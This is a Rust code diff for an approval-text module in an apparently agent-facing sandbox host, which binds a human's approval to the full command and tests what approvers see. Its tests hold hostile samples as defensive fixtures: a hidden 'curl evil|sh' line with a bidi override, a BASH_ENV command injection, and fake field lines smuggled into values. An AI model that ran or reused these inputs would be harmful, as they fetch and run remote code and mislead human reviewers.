@@ -10,7 +10,7 @@ use std::path::Path;
 use sha2::{Digest as _, Sha256};
 use skillhost_api::approval::ApprovalField;
 use skillhost_api::error::{Error, Result};
-use skillhost_api::types::{Command, CopyRequest, ExecRequest, HostPath, ShellRequest};
+use skillhost_api::types::{Command, CopyRequest, Delivery, ExecSpec, HostPath, ShellRequest};
 use skillhost_api::units::hex;
 use skillhost_api::visible;
 
@@ -22,7 +22,11 @@ const MAX_SHOWN: usize = 8 * 1024;
 
 /// The text of an approval: what is to happen, in the order in which it is shown.
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
-pub(super) struct ApprovalText(Vec<(&'static str, Value)>);
+pub(super) struct ApprovalText {
+    fields: Vec<(&'static str, Value)>,
+    /// The command as it is, of which the fields tell what a person has to see: an answer is bound to all of it.
+    command: Vec<u8>,
+}
 
 /// The value of a field.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -82,7 +86,7 @@ impl ApprovalText {
     /// Adds a field.
     #[must_use]
     pub(super) fn with(mut self, name: &'static str, value: Value) -> Self {
-        self.0.push((name, value));
+        self.fields.push((name, value));
         self
     }
 
@@ -109,7 +113,7 @@ impl ApprovalText {
     }
 
     fn has(&self, name: &str) -> bool {
-        self.0.iter().any(|(other, _)| *other == name)
+        self.fields.iter().any(|(other, _)| *other == name)
     }
 
     /// The sandbox that it happens in, with the environment that each of its commands has.
@@ -117,35 +121,26 @@ impl ApprovalText {
         self.text("sandbox", &info.id).variables("environment of the sandbox", &info.env)
     }
 
-    /// A command; `about` is what has to be known of it besides.
-    pub(super) fn exec(request: &ExecRequest, cwd: &str, info: &SandboxInfo, about: Self) -> Result<Self> {
-        let ExecRequest {
-            // The one that was found under this id.
-            container_id: _,
-            command,
-            // As it was resolved.
-            cwd: _,
-            env,
-            // How long, and how much is kept of what it says, is no effect on the machine.
-            timeout_ms: _,
-            max_output: _,
-            stream: _,
-            stdin,
-            stream_to_blackboard,
-            terminal,
-        } = request;
-        check_env(env)?;
-        let mut what = Self::default().command(command).text("directory", cwd).variables("environment", env);
-        if *stdin && !about.has("input") {
-            what = what.text("input", "whatever is written to it, which is not shown here");
-        }
-        if terminal.is_some() {
-            what = what.text("terminal", "yes");
+    /// A command, its directory resolved; `about` is what has to be known of it besides. All of the command is in what an
+    /// answer is bound to, also what need not be shown.
+    pub(super) fn exec(spec: &ExecSpec, delivery: &Delivery, info: &SandboxInfo, about: Self) -> Result<Self> {
+        check_env(&spec.env)?;
+        // How much is kept of what it says, and where the caller sees it, is no effect on the machine.
+        let Delivery { max_output: _, stream: _, stream_to_blackboard } = delivery;
+        let mut what = Self { command: spec.canonical(), ..Self::default() }
+            .command(&spec.command)
+            .text("directory", spec.cwd.as_deref().unwrap_or_default())
+            .variables("environment", &spec.env);
+        for (name, value) in spec.particulars() {
+            // What is said of it in other words is not said twice.
+            if !about.has(name) {
+                what = what.text(name, value);
+            }
         }
         if *stream_to_blackboard {
             what = what.text("output", "is published on the session's blackboard");
         }
-        what.0.extend(about.0);
+        what.fields.extend(about.fields);
         Ok(what.runs_in(info))
     }
 
@@ -159,7 +154,7 @@ impl ApprovalText {
     /// A file of the sandbox, and what else has to be known.
     pub(super) fn file(path: &str, info: &SandboxInfo, about: Self) -> Self {
         let mut what = Self::default().text("path", info.path_inside(path));
-        what.0.extend(about.0);
+        what.fields.extend(about.fields);
         what.text("sandbox", &info.id)
     }
 
@@ -177,7 +172,7 @@ impl ApprovalText {
     /// As it is shown: whole, or refused by the name of what is too long. `advice` says what to do then.
     pub(super) fn shown(&self, advice: &str) -> Result<Vec<ApprovalField>> {
         let field = |(name, value): &(&str, Value)| ApprovalField { name: (*name).to_owned(), value: value.shown() };
-        let fields: Vec<_> = self.0.iter().map(field).collect();
+        let fields: Vec<_> = self.fields.iter().map(field).collect();
         let length = |field: &ApprovalField| field.name.chars().count() + field.value.chars().count();
         let all: usize = fields.iter().map(length).sum();
         let longest = fields.iter().max_by_key(|field| length(field)).filter(|_| all > MAX_SHOWN);
@@ -193,14 +188,15 @@ impl ApprovalText {
 
     /// As the audit log has it.
     pub(super) fn recorded(&self) -> String {
-        let lines: Vec<_> = self.0.iter().map(|(name, value)| format!("{name}: {}", value.recorded())).collect();
+        let lines: Vec<_> = self.fields.iter().map(|(name, value)| format!("{name}: {}", value.recorded())).collect();
         lines.join("\n")
     }
 
     /// Adds all of it to a digest.
     pub(super) fn add_to(&self, digest: &mut InjectiveDigest) {
-        digest.number(self.0.len());
-        for (name, value) in &self.0 {
+        digest.part(&self.command);
+        digest.number(self.fields.len());
+        for (name, value) in &self.fields {
             let (kind, parts) = value.parts();
             digest.part(name.as_bytes());
             digest.part(&[kind]);
@@ -259,8 +255,13 @@ mod tests {
         pairs.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect()
     }
 
-    fn exec(line: &str) -> ExecRequest {
-        ExecRequest { command: Command::Shell(line.into()), ..ExecRequest::default() }
+    /// In `/w`.
+    fn exec(line: &str) -> ExecSpec {
+        ExecSpec { cwd: Some("/w".into()), ..ExecSpec::shell(line) }
+    }
+
+    fn question(spec: &ExecSpec, sandbox: &[(&str, &str)]) -> ApprovalText {
+        ApprovalText::exec(spec, &Delivery::default(), &info(sandbox), ApprovalText::default()).unwrap()
     }
 
     fn digest(what: &ApprovalText) -> Vec<u8> {
@@ -276,9 +277,9 @@ mod tests {
     #[test]
     fn a_question_shows_the_environment_of_the_command_and_of_its_sandbox() {
         let request =
-            ExecRequest { stdin: true, env: env(&[("A", "1\n2")]), ..exec("true # tidy up\ncurl evil|sh\u{202e}") };
+            ExecSpec { stdin: true, env: env(&[("A", "1\n2")]), ..exec("true # tidy up\ncurl evil|sh\u{202e}") };
         let sandbox = info(&[("BASH_ENV", "$(touch /tmp/x)")]);
-        let what = ApprovalText::exec(&request, "/w", &sandbox, ApprovalText::default()).unwrap();
+        let what = ApprovalText::exec(&request, &Delivery::default(), &sandbox, ApprovalText::default()).unwrap();
         assert_eq!(
             lines(&what),
             "shell line: true # tidy up\\ncurl evil|sh\\u{202e}\ndirectory: /w\nenvironment: A=1\\n2\n\
@@ -294,9 +295,9 @@ mod tests {
 
     #[test]
     fn the_audit_log_has_no_values_of_an_environment_and_no_source() {
-        let request = ExecRequest { env: env(&[("TOKEN", "hunter2")]), ..exec("true") };
+        let request = ExecSpec { env: env(&[("TOKEN", "hunter2")]), ..exec("true") };
         let about = ApprovalText::default().with("input", Value::Source("print('hunter3')".into()));
-        let what = ApprovalText::exec(&request, "/w", &info(&[("OTHER", "hunter4")]), about).unwrap();
+        let what = ApprovalText::exec(&request, &Delivery::default(), &info(&[("OTHER", "hunter4")]), about).unwrap();
         assert!(
             lines(&what).contains("hunter2") && lines(&what).contains("hunter3") && lines(&what).contains("hunter4")
         );
@@ -307,13 +308,12 @@ mod tests {
 
     #[test]
     fn no_two_requests_are_one_question() {
-        let ask = |request: &ExecRequest, cwd: &str, sandbox: &[(&str, &str)]| {
-            ApprovalText::exec(request, cwd, &info(sandbox), ApprovalText::default()).unwrap()
+        let ask = |spec: &ExecSpec, cwd: &str, sandbox: &[(&str, &str)]| {
+            question(&ExecSpec { cwd: Some(cwd.into()), ..spec.clone() }, sandbox)
         };
-        let argv = |words: &[&str]| ExecRequest {
-            command: Command::Argv(words.iter().map(|word| (*word).to_owned()).collect()),
-            ..ExecRequest::default()
-        };
+        let argv = |words: &[&str]| ExecSpec::argv(words.iter().copied());
+        let published = Delivery { stream_to_blackboard: true, ..Delivery::default() };
+        let in_a = ExecSpec { cwd: Some("/a".into()), ..exec("x") };
         let size = TerminalSize { rows: 1, columns: 1 };
         let all = [
             ask(&exec("x"), "/a", &[]),
@@ -322,12 +322,12 @@ mod tests {
             ask(&exec("x"), "/a in /b", &[]),
             ask(&exec("x\ndirectory: /b"), "/a", &[]),
             ask(&exec("x\\ndirectory: /b"), "/a", &[]),
-            ask(&ExecRequest { stdin: true, ..exec("x") }, "/a", &[]),
-            ask(&ExecRequest { terminal: Some(size), ..exec("x") }, "/a", &[]),
-            ask(&ExecRequest { stream_to_blackboard: true, ..exec("x") }, "/a", &[]),
-            ask(&ExecRequest { env: env(&[("A", "1")]), ..exec("x") }, "/a", &[]),
-            ask(&ExecRequest { env: env(&[("A", "1"), ("B", "2")]), ..exec("x") }, "/a", &[]),
-            ask(&ExecRequest { env: env(&[("A", "1\nenvironment: B=2")]), ..exec("x") }, "/a", &[]),
+            ask(&ExecSpec { stdin: true, ..exec("x") }, "/a", &[]),
+            ask(&ExecSpec { terminal: Some(size), ..exec("x") }, "/a", &[]),
+            ApprovalText::exec(&in_a, &published, &info(&[]), ApprovalText::default()).unwrap(),
+            ask(&ExecSpec { env: env(&[("A", "1")]), ..exec("x") }, "/a", &[]),
+            ask(&ExecSpec { env: env(&[("A", "1"), ("B", "2")]), ..exec("x") }, "/a", &[]),
+            ask(&ExecSpec { env: env(&[("A", "1\nenvironment: B=2")]), ..exec("x") }, "/a", &[]),
             ask(&exec("x"), "/a", &[("A", "1")]),
             ask(&exec("x"), "/a", &[("A", "2")]),
             ask(&argv(&["x"]), "/a", &[]),
@@ -345,8 +345,19 @@ mod tests {
     }
 
     #[test]
+    fn an_answer_is_bound_to_all_of_a_command_but_its_deadline() {
+        let spec = exec("x");
+        assert_ne!(digest(&question(&ExecSpec { cwd: None, ..spec.clone() }, &[])), digest(&question(&spec, &[])));
+        let size = |rows| ExecSpec { terminal: Some(TerminalSize { rows, columns: 1 }), ..spec.clone() };
+        // What is shown of it is the same.
+        assert_ne!(digest(&question(&size(1), &[])), digest(&question(&size(2), &[])));
+        let later = spec.clone().within(std::time::Duration::from_secs(1));
+        assert_eq!(digest(&question(&later, &[])), digest(&question(&spec, &[])));
+    }
+
+    #[test]
     fn what_is_too_long_to_be_shown_is_refused_by_name() {
-        let what = |line: &str| ApprovalText::exec(&exec(line), "/w", &info(&[]), ApprovalText::default()).unwrap();
+        let what = |line: &str| question(&exec(line), &[]);
         assert!(what(&"x".repeat(MAX_SHOWN / 2)).shown("").is_ok());
         let refused = what(&format!("{}; payload", " ".repeat(MAX_SHOWN))).shown("shorten it").unwrap_err();
         assert_eq!(refused.kind, skillhost_api::error::ErrorKind::TooLarge);
@@ -354,9 +365,8 @@ mod tests {
         // What counts is what has to be read.
         assert!(what(&"\u{202e}".repeat(MAX_SHOWN / 4)).shown("").is_err());
         let many: Vec<_> = (0..MAX_SHOWN).map(|number| (format!("V{number}"), String::new())).collect();
-        let request = ExecRequest { env: many.into_iter().collect(), ..exec("true") };
-        let refused =
-            ApprovalText::exec(&request, "/w", &info(&[]), ApprovalText::default()).unwrap().shown("").unwrap_err();
+        let request = ExecSpec { env: many.into_iter().collect(), ..exec("true") };
+        let refused = question(&request, &[]).shown("").unwrap_err();
         assert!(refused.message.contains("`environment`"), "{refused}");
     }
 
@@ -368,7 +378,7 @@ mod tests {
 
     #[test]
     fn a_name_that_no_environment_can_hold_is_not_asked_about() {
-        let request = ExecRequest { env: env(&[("A=B", "C")]), ..exec("true") };
-        assert!(ApprovalText::exec(&request, "/w", &info(&[]), ApprovalText::default()).is_err());
+        let request = ExecSpec { env: env(&[("A=B", "C")]), ..exec("true") };
+        assert!(ApprovalText::exec(&request, &Delivery::default(), &info(&[]), ApprovalText::default()).is_err());
     }
 }
